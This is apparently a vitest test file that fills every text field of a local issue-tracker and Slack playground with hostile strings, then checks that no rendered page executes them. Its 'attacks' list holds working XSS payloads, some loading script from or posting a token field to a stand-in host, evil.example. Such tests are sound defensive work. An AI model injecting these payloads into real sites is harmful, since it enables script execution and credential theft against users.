import fc from 'fast-check'
import { expect, test } from 'vitest'
import { renderMarkdown } from '../../../src/local/pages/markdown.ts'
import { referencesIn } from '../../../src/local/pages/text.ts'
import { startTracker } from '../../../src/local/tracker.ts'
import { anyHostileText, hostileTexts } from '../../core/hostile-texts.ts'
import { home, livingIn, openPages, type Pages, parse } from './bed.ts'

/** What would act in a page, if it were more than text. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe><object data="x"></object><embed src=x>',
  '<a href="javascript:alert(1)">x</a> <a href="java&#10;script:alert(1)">x</a> <a href=" data:text/html,x">x</a>',
  '[x](javascript:alert(1)) [y](data:text/html,<script>) [z](vbscript:x) ![i](javascript:alert(1))',
  '<form action="https://evil.example"><input name=token><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example"</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example/x)">over everything</div>',
  '<b id=news name=token class=skip data-part=main data-list=body data-live data-mermaid=x tabindex=1 accesskey=x>x</b>',
  '<video src=//evil.example/v autoplay></video><audio src=//evil.example/a></audio><source srcset=//evil.example/s>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '```mermaid\nflowchart LR\nA["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"\n```',
  '<template><img src=x onerror=alert(1)></template><xmp><script>alert(1)</script></xmp><plaintext>',
]
const texts = [...attacks, ...hostileTexts]

/** A repository in which every text stands at every place where somebody's text can stand: one issue, run and message for each. */
async function hostilePages(): Promise<Pages> {
  const pages = await openPages()
  const { playground, runs } = pages
  const { store } = playground.tracker
  const [all] = pages.issues
  store.milestones.push({
    ...{ id: 2, number: 1, title: texts[2]!, description: null, state: 'open', creator: 'octocat' },
    ...{ dueOn: null, createdAt: '', updatedAt: '', closedAt: null },
  })
  for (const [index, text] of texts.entries()) {
    const id = 1000 + index
    store.labels.push({ id, name: text, color: text, description: text })
    const user = index % 2 === 0 ? text : 'octocat'
    const issue = store.addIssueRow({ title: text, body: text, user, labels: [id], milestone: 2, assignees: [text] })
    store.dependencies.push({ blocked: issue.id, blocker: all!.id }, { blocked: all!.id, blocker: issue.id })
    all!.subIssues.push(issue.id)
    store.comments.push({ id, issue: all!.id, user: text, viaApp: false, body: text, createdAt: text, updatedAt: '' })
    store.reactions.push({ id, on: 'comment', target: id, user: text, content: 'rocket', createdAt: text })
    store.addPullRequest({ title: text, body: text, head: text, base: text, closes: [1] })
    store.putFile('.github/phases/x.yml', text, { message: text, login: text })
    store.putFile(`docs/${text.replaceAll('/', '_')}.md`, `---\nname: ${text.split('\n')[0]}\n---\n${text}`, {
      message: text,
    })
    const run = { number: index, event: text, cause: text, at: '2026-02-23T09:00:00Z', state: 'done', code: 0 } as const
    runs.push({ ...run, log: text, summary: text, outputs: { [text]: text } })
    store.runs.push({
      ...{ id, workflow: 6, number: 1, branch: text, sha: text, event: text, title: text, actor: text },
      ...{ status: 'queued', conclusion: null, inputs: { [text]: text }, unlisted: false },
      ...{ createdAt: '2026-02-23T09:00:00Z', updatedAt: '' },
    })
  }
  Object.assign(playground.slack, { messages: texts.flatMap(messagesWith) })
  // What happens now is told with the names of all that.
  await pages.post(`${home}/issues/2/labels`, { label: texts.filter((text) => text.length <= 50) })
  await pages.post(`${home}/issues/2/title`, { title: texts[0]! })
  await pages.post(`${home}/issues/2/blocked-by`, { number: '10' })
  return pages
}

function messagesWith(text: string, index: number) {
  const blocks = [
    { type: 'header', text: { type: 'plain_text', text } },
    { type: 'section', text: { type: 'mrkdwn', text } },
    { type: 'context', elements: [{ type: 'mrkdwn', text }] },
  ]
  const ts = `1771837200.${index}`
  return [
    { channel: text, via: 'webhook', text, blocks, ts: `${ts}1` },
    { channel: text, via: 'token', text, blocks: [], ts: `${ts}2` },
  ]
}

test('whatever texts hold, no page does anything for them, and titles show as they are written', async () => {
  const pages = await hostilePages()
  const { store } = pages.playground.tracker
  const pulls = store.issues.filter(({ pullRequest }) => pullRequest !== null)
  const own = pulls.slice(0, 5).map(({ number }) => `/pull/${number}`)
  const runs = texts.flatMap((_, index) => [`/actions/runs/${1000 + index}`])
  const folder = await pages.open(`${home}/tree/main/docs`)
  const files = [...folder.querySelectorAll('.files a')].map((link) => link.getAttribute('href')!.slice(home.length))
  const commits = Object.keys(store.state.git.commits)
    .slice(-10)
    .map((sha) => `/commit/${sha}`)
  const lists = [
    '/issues?state=all',
    '/pulls',
    '/actions?of=coordinator',
    '/actions?of=workers',
    '/slack',
    '/clock',
    '',
  ]
  const code = [
    '/tree/main/docs',
    '/blob/main/.github/phases/x.yml',
    '/edit/main/.github/phases/x.yml',
    '/commits/main',
  ]
  expect(files.length).toBeGreaterThan(40)
  for (const address of [...lists, ...code, ...own, ...runs, ...files, ...commits])
    expect(livingIn(await pages.open(home + address)), address).toEqual([])
  for (const { number, title } of store.issues.filter(({ pullRequest }) => pullRequest === null)) {
    const page = await pages.open(`${home}/issues/${number}`)
    expect(livingIn(page), String(number)).toEqual([])
    const shown = `${title} #${number}`.replaceAll('\r\n', '\n').replaceAll('\0', '')
    expect(page.querySelector('h1')?.textContent).toBe(shown)
  }
})

test.each(texts)('asked for, %j is text as well', async (text) => {
  const pages = await openPages()
  const query = new URLSearchParams({ label: text, stream: text, words: text, assignee: text, of: text, state: text })
  expect(livingIn(await pages.open(`${home}/issues?${query}`))).toEqual([])
  for (const address of [`/${encodeURIComponent(text)}/x`, `${home}/blob/${encodeURIComponent(text)}`])
    expect(livingIn(parse(await (await pages.get(address)).text()))).toEqual([])
  const refused = await pages.post(`${home}/issues/1/comments`, { act: text })
  expect(livingIn(parse(await refused.text()))).toEqual([])
})

test('no text that anybody could make up lives in what is rendered of it', async () => {
  const tracker = await startTracker()
  const references = referencesIn(tracker.store)
  await tracker.close()
  const piece = fc.oneof(anyHostileText, fc.constantFrom(...attacks))
  fc.assert(
    fc.property(
      fc.array(piece, { minLength: 1, maxLength: 4 }).map((parts) => parts.join('\n')),
      (text) => {
        const html = renderMarkdown(text, { scope: 'body', breaks: true, references, form: 'tick' })
        expect(livingIn(parse(html))).toEqual([])
        const ids = [...parse(html).querySelectorAll('[id]')].map(({ id }) => id)
        expect(ids.filter((id) => !/^(?:text-body-|tick-\d)/.test(id))).toEqual([])
      },
    ),
  )
})
